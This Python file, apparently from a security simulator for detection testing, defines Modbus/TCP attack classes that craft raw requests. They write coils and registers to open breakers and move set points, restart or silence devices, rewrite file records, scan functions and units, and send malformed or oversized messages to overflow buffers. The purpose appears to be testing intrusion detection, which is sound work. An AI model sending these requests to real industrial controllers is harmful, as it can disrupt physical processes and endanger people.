"""Attacks on a Modbus server by a stranger: the protocol has no user, no password, and no idea who asks."""

import struct
from collections.abc import Iterator
from typing import ClassVar, Final

from simulator.attacks.attack import Asking

UNIT: Final = 1
FIRST: Final = 100
"""A register that the servers of the simulation have."""


class ModbusAttack(Asking):
    """Plays master. `unit` is who is asked."""

    WAY = "modbus"

    def __init__(self, *, unit: int = UNIT) -> None:
        self.unit = unit

    def requests(self) -> Iterator[bytes]:
        """Yield the requests, function first."""
        raise NotImplementedError

    def messages(self) -> Iterator[bytes]:
        """Yield each request with its header."""
        for number, pdu in enumerate(self.requests(), 1):
            yield mbap(pdu, unit=self.unit, number=number)


class ModbusWrite(ModbusAttack):
    """Writes coils and registers: opens a breaker, and moves set points."""

    NAME = "modbus_write"
    CHECKS = ("unauthorised_write",)

    def requests(self) -> Iterator[bytes]:
        """Yield functions 5, 6, 15, 16, 22 and 23."""
        yield struct.pack(">BHH", 5, 0, 0xFF00)
        yield struct.pack(">BHH", 6, FIRST, 0)
        yield struct.pack(">BHHBB", 15, 0, 4, 1, 0x0F)
        yield struct.pack(">BHHBHH", 16, FIRST, 2, 4, 0, 0)
        yield struct.pack(">BHHH", 22, FIRST, 0, 0xFFFF)
        yield struct.pack(">BHHHHBH", 23, FIRST, 1, FIRST, 1, 2, 0)


class ModbusFunctionScan(ModbusAttack):
    """Tries function after function to see which of them are answered."""

    NAME = "modbus_function_scan"
    CHECKS = ("reconnaissance",)

    def requests(self) -> Iterator[bytes]:
        """Yield functions 1 to 72, but for those that change something, with what most of them take."""
        for function in range(1, 73):
            if function not in (5, 6, 8, 15, 16, 20, 21, 22, 23):
                yield struct.pack(">BHH", function, FIRST, 1)


class ModbusIdentify(ModbusAttack):
    """Asks a device what it is: vendor, product, version, and its server id."""

    NAME = "modbus_identify"
    CHECKS = ("reconnaissance",)

    def requests(self) -> Iterator[bytes]:
        """Yield 43/14 and 17."""
        yield bytes((43, 14, 1, 0))
        yield bytes((17,))


class ModbusRestart(ModbusAttack):
    """Restarts the communication of a device."""

    NAME = "modbus_restart"
    CHECKS = ("critical_function",)

    def requests(self) -> Iterator[bytes]:
        """Yield diagnostics 8/1."""
        yield struct.pack(">BHH", 8, 1, 0)


class ModbusListenOnly(ModbusAttack):
    """Silences a device: it is forced to listen only, and answers nobody any more."""

    NAME = "modbus_listen_only"
    CHECKS = ("critical_function",)

    def requests(self) -> Iterator[bytes]:
        """Yield diagnostics 8/4."""
        yield struct.pack(">BHH", 8, 4, 0)


class ModbusFileRecord(ModbusAttack):
    """Reads a file of a device, and writes it back changed."""

    NAME = "modbus_file"
    CHECKS = ("file_or_program",)

    def requests(self) -> Iterator[bytes]:
        """Yield functions 20 and 21: one record of file 4."""
        yield struct.pack(">BBBHHH", 20, 7, 6, 4, 1, 2)
        yield struct.pack(">BBBHHHHH", 21, 11, 6, 4, 1, 2, 0xDEAD, 0xBEEF)


class ModbusUnitSweep(ModbusAttack):
    """Looks for devices behind a gateway: asks unit after unit."""

    NAME = "modbus_unit_sweep"
    CHECKS = ("reconnaissance",)

    def messages(self) -> Iterator[bytes]:
        """Yield the same reading of 32 units."""
        for unit in range(1, 33):
            yield mbap(struct.pack(">BHH", 3, FIRST, 1), unit=unit, number=unit)


class ModbusAddressSweep(ModbusAttack):
    """Looks for registers: reads block after block, far outside of what anybody reads."""

    NAME = "modbus_address_sweep"
    CHECKS = ("reconnaissance",)

    def requests(self) -> Iterator[bytes]:
        """Yield readings of 32 blocks."""
        for block in range(32):
            yield struct.pack(">BHH", 3, block * 2000, 100)


class ModbusMalformed(ModbusAttack):
    """Probes for weaknesses: another protocol number, lengths that cannot be, messages that are cut."""

    NAME = "modbus_malformed"
    CHECKS = ("malformed",)

    def messages(self) -> Iterator[bytes]:
        """Yield broken headers, with good messages between them, so that the connection is kept."""
        for number in range(4):
            good = mbap(struct.pack(">BHH", 3, FIRST, 1), unit=self.unit, number=number)
            yield good
            yield struct.pack(">HHHBBHH", number, 0x4711, 6, self.unit, 3, FIRST, 1)
            yield good
            yield struct.pack(">HHHBBHH", number, 0, 1, self.unit, 3, FIRST, 1)
            yield good
            yield struct.pack(">HHHBB", number, 0, 2, self.unit, 3)


class ModbusOtherProtocol(ModbusAttack):
    """Speaks another protocol at the port of Modbus, as a port scanner does that wants to know what is there."""

    NAME = "modbus_other_protocol"
    CHECKS = ("malformed",)
    EACH_S: ClassVar[float] = 0.2

    def messages(self) -> Iterator[bytes]:
        """Yield what a browser and a shell would say."""
        for _ in range(3):
            yield b"GET / HTTP/1.1\r\nHost: plc\r\n\r\n"
            yield b"SSH-2.0-OpenSSH_9.6\r\n"


class ModbusQuantity(ModbusAttack):
    """Asks for more registers than a message can hold, so that a careless device writes beyond its buffer."""

    NAME = "modbus_quantity"
    CHECKS = ("malformed",)

    def requests(self) -> Iterator[bytes]:
        """Yield readings and a writing out of their limits."""
        for count in (126, 2000, 0, 65_535):
            yield struct.pack(">BHH", 3, FIRST, count)
        yield struct.pack(">BHHBH", 16, FIRST, 124, 2, 0)


ATTACKS: Final[tuple[type[ModbusAttack], ...]] = (
    ModbusAddressSweep,
    ModbusFileRecord,
    ModbusFunctionScan,
    ModbusIdentify,
    ModbusListenOnly,
    ModbusMalformed,
    ModbusOtherProtocol,
    ModbusQuantity,
    ModbusRestart,
    ModbusUnitSweep,
    ModbusWrite,
)


def mbap(pdu: bytes, *, unit: int = UNIT, number: int = 1) -> bytes:
    """Return a message with its header (Modbus Messaging on TCP/IP, clause 3.1.3)."""
    return struct.pack(">HHHB", number & 0xFFFF, 0, len(pdu) + 1, unit) + pdu
